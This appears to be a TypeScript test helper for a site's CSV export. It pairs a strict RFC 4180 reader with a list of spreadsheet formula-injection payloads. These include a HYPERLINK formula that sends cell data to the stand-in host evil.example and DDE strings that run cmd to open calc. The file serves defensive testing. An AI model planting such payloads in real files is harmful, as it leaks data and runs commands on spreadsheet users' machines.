/**
 * Texts a spreadsheet would run as formulas (OWASP's CSV injection), and an RFC 4180 reader of the
 * site's CSV files (`;` between cells, BOM first, CRLF after each record), shared by the CSV
 * writer's unit test and the emulator tests that store such a text and read the export back.
 */
export const FORMULA_PAYLOADS = {
  hyperlink: '=HYPERLINK("http://evil.example/?"&A1,"Ver")',
  dde: "@SUM(1+1)*cmd|' /C calc'!A0",
  plus: '+1+cmd|" /C calc"!A0',
  minus: '-2+3+cmd|" /C calc"!A0',
  tab: '\t=1+1',
  carriageReturn: '\r=1+1',
} as const;

/** The cells of a CSV file as a spreadsheet reads them; throws on a file that is not RFC 4180. */
export function readCsv(text: string): string[][] {
  if (!text.startsWith('\uFEFF')) throw new Error('CSV sin BOM');
  const body = text.slice(1);
  const records: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  let wasQuoted = false;
  for (let i = 0; i < body.length; i++) {
    const c = body[i]!;
    if (quoted) {
      if (c === '"' && body[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '' && !wasQuoted) quoted = wasQuoted = true;
    else if (c === ';') {
      row.push(cell);
      cell = '';
      wasQuoted = false;
    } else if (c === '\r' && body[i + 1] === '\n') {
      row.push(cell);
      records.push(row);
      row = [];
      cell = '';
      wasQuoted = false;
      i++;
    } else if (wasQuoted || c === '"' || c === '\r' || c === '\n')
      throw new Error(`CSV mal formado cerca del carácter ${i}`);
    else cell += c;
  }
  if (quoted || row.length > 0 || cell !== '') throw new Error('CSV sin CRLF al final');
  return records;
}
